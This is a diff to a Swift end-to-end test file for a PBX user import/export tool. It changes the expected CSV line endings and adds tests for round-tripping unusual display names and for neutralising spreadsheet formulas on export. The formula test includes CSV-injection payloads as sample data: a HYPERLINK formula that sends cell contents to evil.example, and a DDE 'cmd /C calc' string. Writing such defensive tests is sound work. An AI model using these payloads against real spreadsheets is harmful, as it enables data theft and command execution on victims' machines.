@@ -44,7 +44,7 @@ final class ImportExportEndToEndTests: XCTestCase {
         XCTAssertEqual(first.code, 6, first.stderr)
         XCTAssertTrue(first.stderr.contains("created 39, skipped 0, failed 1"), first.stderr)
         let failed = try String(contentsOfFile: file + ".failed.csv", encoding: .utf8)
-        XCTAssertTrue(failed.hasPrefix("name,display_name,email,role,extension_number,password,extension_password,voicemail_pin,office_hours.mode,error\r\n"), failed)
+        XCTAssertTrue(failed.hasPrefix("name,display_name,email,role,extension_number,password,extension_password,voicemail_pin,office_hours.mode,error\n"), failed)
         XCTAssertTrue(failed.contains("imp.user3,") && failed.contains("line 4: 409 CONFLICT"), failed)
         XCTAssertEqual((try FileManager.default.attributesOfItem(atPath: file + ".failed.csv")[.posixPermissions] as? NSNumber)?.intValue, 0o600)
 
@@ -87,7 +87,7 @@ final class ImportExportEndToEndTests: XCTestCase {
         }
         let export = PBX.run(["users", "export", "-o", "csv"], env: source.env())
         XCTAssertEqual(export.code, 0, export.stderr)
-        XCTAssertEqual(export.stdout.components(separatedBy: "\r\n").count, 152, "header, 150 users (every page), trailing CRLF")
+        XCTAssertEqual(export.stdout.components(separatedBy: "\n").count, 152, "header, 150 users (every page), trailing LF")
         let file = write(export.stdout, "export.csv")
         let imported = PBX.run(["users", "import", file, "--generate-secrets"], env: target.env())
         XCTAssertEqual(imported.code, 0, imported.stderr)
@@ -95,7 +95,7 @@ final class ImportExportEndToEndTests: XCTestCase {
         let secrets = file + ".secrets.csv"
         XCTAssertEqual((try FileManager.default.attributesOfItem(atPath: secrets)[.posixPermissions] as? NSNumber)?.intValue, 0o600)
         func comparable(_ csv: String) -> [String] {
-            csv.components(separatedBy: "\r\n").dropFirst().filter { !$0.isEmpty }.map { $0.split(separator: ",", maxSplits: 1, omittingEmptySubsequences: false).last.map(String.init) ?? "" }.sorted()
+            csv.components(separatedBy: "\n").dropFirst().filter { !$0.isEmpty }.map { $0.split(separator: ",", maxSplits: 1, omittingEmptySubsequences: false).last.map(String.init) ?? "" }.sorted()
         }
         XCTAssertEqual(comparable(PBX.run(["users", "export", "-o", "csv"], env: target.env()).stdout), comparable(export.stdout))
         let secretsBefore = try String(contentsOfFile: secrets, encoding: .utf8)
@@ -126,5 +126,78 @@ extension ImportExportEndToEndTests {
         let names = PBX.run(["users", "list", "--all", "-q"], env: sandbox.env()).stdout.split(separator: "\n")
         XCTAssertEqual(names.count, 200, "every user exactly once")
         XCTAssertEqual(try sandbox.stats().operations["createUser"], 200, "no create was sent twice")
+    }
+}
+
+extension ImportExportEndToEndTests {
+    /// Users whose display names hold the given strings, created in a fresh sandbox from JSON Lines.
+    func sandbox(withDisplayNames names: [String]) throws -> SandboxProcess {
+        let source = try SandboxProcess(arguments: ["--users", "0"])
+        let lines = try names.enumerated().map { index, name in
+            let user: [String: String] = ["name": "odd.\(index)", "display_name": name, "email": "odd\(index)@example.com", "role": "StandardUser",
+                                          "extension_number": String(7000 + index), "password": "Pass#\(index)x", "extension_password": "Sip#\(index)x", "voicemail_pin": "385920"]
+            return String(decoding: try JSONSerialization.data(withJSONObject: user, options: [.sortedKeys]), as: UTF8.self)
+        }
+        let created = PBX.run(["users", "import", "-", "--format", "jsonl"], env: source.env(), stdin: lines.joined(separator: "\n") + "\n")
+        XCTAssertEqual(created.code, 0, created.stderr)
+        return source
+    }
+
+    /// name → display name as Unicode scalars: Swift's `==` would let canonically equal strings pass.
+    func displayNames(_ sandbox: SandboxProcess) -> [String: [UInt32]] {
+        let list = PBX.run(["users", "list", "--all", "-o", "json", "--fields", "name,display_name"], env: sandbox.env())
+        let users = (PBX.json(list.stdout) as? [[String: Any]]) ?? []
+        return Dictionary(uniqueKeysWithValues: users.map { ($0["name"] as? String ?? "", ($0["display_name"] as? String ?? "").unicodeScalars.map(\.value)) })
+    }
+
+    /// Line breaks inside a cell, and commas or quotes carrying combining marks, survive export → import.
+    func testExportImportKeepsEveryScalar() throws {
+        let names = ["Bob\r\nBuilder", "Line\nFeed", "Carriage\rReturn", "Comma,\u{301}Mark", "Quote \"\u{301} Mark", "\u{301}lead", "tab\there", "back\\slash"]
+        let source = try sandbox(withDisplayNames: names)
+        let target = try SandboxProcess(arguments: ["--users", "0"])
+        defer {
+            source.stop()
+            target.stop()
+        }
+        let before = displayNames(source)
+        XCTAssertEqual(before["odd.0"], "Bob\r\nBuilder".unicodeScalars.map(\.value))
+        let export = PBX.run(["users", "export", "-o", "csv"], env: source.env())
+        XCTAssertEqual(export.code, 0, export.stderr)
+        let file = write(export.stdout, "odd.csv")
+        let imported = PBX.run(["users", "import", file, "--generate-secrets"], env: target.env())
+        XCTAssertEqual(imported.code, 0, imported.stderr)
+        XCTAssertEqual(displayNames(target), before)
+        let tsv = PBX.run(["users", "list", "--all", "-o", "tsv", "--fields", "display_name", "--no-headers"], env: source.env())
+        XCTAssertEqual(tsv.stdout.unicodeScalars.filter { $0 == "\n" }.count, names.count, "one line per user: \(tsv.stdout.debugDescription)")
+        XCTAssertFalse(tsv.stdout.unicodeScalars.contains("\r"), "TSV escapes CR")
+    }
+}
+
+extension ImportExportEndToEndTests {
+    /// A display name a spreadsheet would run is written with a leading apostrophe;
+    /// `users import` takes it off again, so export → import stays exact.
+    func testFormulasAreNeutralisedAndImportUndoesIt() throws {
+        let names = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+SUM(1)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\tTab", "'=quoted by the server",
+                     "+14155550100", "-5"]
+        let source = try sandbox(withDisplayNames: names)
+        let target = try SandboxProcess(arguments: ["--users", "0"])
+        defer {
+            source.stop()
+            target.stop()
+        }
+        let export = PBX.run(["users", "export", "-o", "csv", "--fields", "name,display_name,email,role,extension_number"], env: source.env())
+        XCTAssertEqual(export.code, 0, export.stderr)
+        let lines = export.stdout.components(separatedBy: "\n")
+        XCTAssertTrue(lines.contains("odd.0,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",odd0@example.com,StandardUser,7000"), export.stdout)
+        XCTAssertTrue(lines.contains("odd.1,'+SUM(1),odd1@example.com,StandardUser,7001"), export.stdout)
+        XCTAssertTrue(lines.contains("odd.3,'@SUM(A1),odd3@example.com,StandardUser,7003"), export.stdout)
+        XCTAssertTrue(lines.contains("odd.5,''=quoted by the server,odd5@example.com,StandardUser,7005"), export.stdout)
+        XCTAssertTrue(lines.contains("odd.6,+14155550100,odd6@example.com,StandardUser,7006"), "a phone number stays a number: \(export.stdout)")
+        XCTAssertTrue(lines.contains("odd.7,-5,odd7@example.com,StandardUser,7007"), export.stdout)
+        let file = write(export.stdout, "formulas.csv")
+        let imported = PBX.run(["users", "import", file, "--generate-secrets"], env: target.env())
+        XCTAssertEqual(imported.code, 0, imported.stderr)
+        XCTAssertEqual(displayNames(target), displayNames(source))
+        XCTAssertEqual(displayNames(target)["odd.0"], names[0].unicodeScalars.map(\.value))
     }
 }
